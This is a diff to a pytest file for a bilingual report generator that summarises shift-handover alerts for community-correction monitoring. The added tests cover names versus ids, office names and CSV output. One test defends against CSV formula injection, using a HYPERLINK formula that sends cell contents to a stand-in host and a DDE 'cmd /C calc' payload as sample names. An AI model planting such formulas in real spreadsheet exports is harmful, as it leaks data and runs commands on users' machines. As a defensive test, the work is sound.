@@ -19,18 +19,38 @@ def s():
     return compute_summary(records(), BUNDLE, START, END, version_times=VERSION_TIMES)
 
 
-def test_html_has_chinese_and_english_headings_tables_and_two_charts(s):
+def test_html_has_chinese_and_english_headings_tables_and_three_charts(s):
     html = render(s, "html", "both")
     for heading in ("值班交接汇总 / Shift handover summary", "交接时仍需处理 / Still open at handover",
                     "待签收告警 / Not acknowledged", "签收用时 / Time to acknowledge",
                     "每小时告警数 / Alerts per hour", "人员工作量 / Load per officer",
                     "处置结果（已处置告警） / Dispositions (resolved alerts)"):
         assert heading in html
-    assert html.count('<img class="chart"') == 2
-    assert html.count("data:image/png;base64,iVBOR") == 2  # PNG signature, base64
+    assert html.count('<img class="chart"') == 3
+    assert html.count("data:image/png;base64,iVBOR") == 3  # PNG signature, base64
     assert "越界（离开活动区域）" in html and "已升级上报" in html and "误报" in html
     assert "<table>" in html and "@media print" in html
     assert "A6" not in re.sub(r"base64,[^\"]+", "", html)  # the drill
+
+
+def test_people_read_names_and_machines_keep_ids(s):
+    """The printed sheet and the chat message name persons and officers; the ids of alerts,
+    persons and officers are only in the CSV (and JSON), where a spreadsheet joins on them."""
+    ids = re.compile(r"\b(A\d+|P\d|o-e1|o-w1|o-e-duty)\b")
+    html = re.sub(r"(?s)base64,[^\"]+|<style>.*</style>", "", render(s, "html", "both"))
+    md = render(s, "md", "zh")
+    assert not ids.findall(html) and not ids.findall(md)
+    assert "吴刚" in html and "郑西" in html and "吴刚" in md
+    rows = list(csv.reader(io.StringIO(render(s, "csv", "zh")[1:])))
+    i = [r[0] if r else "" for r in rows].index("# 待签收告警")
+    assert rows[i + 1][:4] == ["级别", "类型", "社区矫正对象", "对象编号"]
+    assert rows[i + 1][-1] == "告警编号" and [r[-1] for r in rows[i + 2:i + 6]] == ["A4", "A7", "A9", "A8"]
+
+
+def test_office_names_from_the_bundle(s):
+    named = s.model_copy(update={"office_names": {"west": "西关司法所", "east": "城东司法所"}})
+    md = render(named, "md", "zh")
+    assert "| 紧急 | 进入禁入区域 | 吴刚 | 西关司法所 |" in md and "| west |" not in md
 
 
 def test_html_escapes_what_it_shows(s):
@@ -42,7 +62,7 @@ def test_html_escapes_what_it_shows(s):
 def test_markdown_for_chat(s):
     md = render(s, "md", "zh")
     assert md.startswith("## 值班交接汇总")
-    assert "| 紧急 | 进入禁入区域 | 吴刚（P3） |" in md
+    assert "| 紧急 | 进入禁入区域 | 吴刚 | west |" in md
     assert "- 合计: **7**" in md
     assert "English" not in md and "Shift handover" not in md
     en = render(s, "md", "en")
@@ -115,3 +135,25 @@ def test_no_cjk_font_fails_clearly(monkeypatch, tmp_path):
             charts.cjk_font()
     finally:
         charts.cjk_font.cache_clear()
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(lead):
+    """OWASP CSV injection: a name typed into the bundle as a formula must reach Excel or WPS
+    as text, with a leading apostrophe, in both layouts."""
+    from dataclasses import replace
+
+    evil = f"{lead}HYPERLINK(\"http://x.example/?\"&A1,\"孙立\")"
+    persons = [replace(p, name=evil) if p.person_id == "P1" else p for p in BUNDLE.persons]
+    officers = [replace(o, name=f"{lead}cmd|' /C calc'!A0") if o.officer_id == "o-e1" else o
+                for o in BUNDLE.officers]
+    s = compute_summary(records(), replace(BUNDLE, persons=persons, officers=officers),
+                        START, END, version_times=VERSION_TIMES)
+    for layout in ("sections", "alerts"):
+        cells = [c for row in csv.reader(io.StringIO(render(s, "csv", "zh", csv_layout=layout)[1:]))
+                 for c in row]
+        assert f"'{evil}" in cells, layout
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], layout
+    rows = list(csv.reader(io.StringIO(render(s, "csv", "zh")[1:])))
+    assert any(r[:1] == [f"'{lead}cmd|' /C calc'!A0"] for r in rows)  # the load table's officer
+
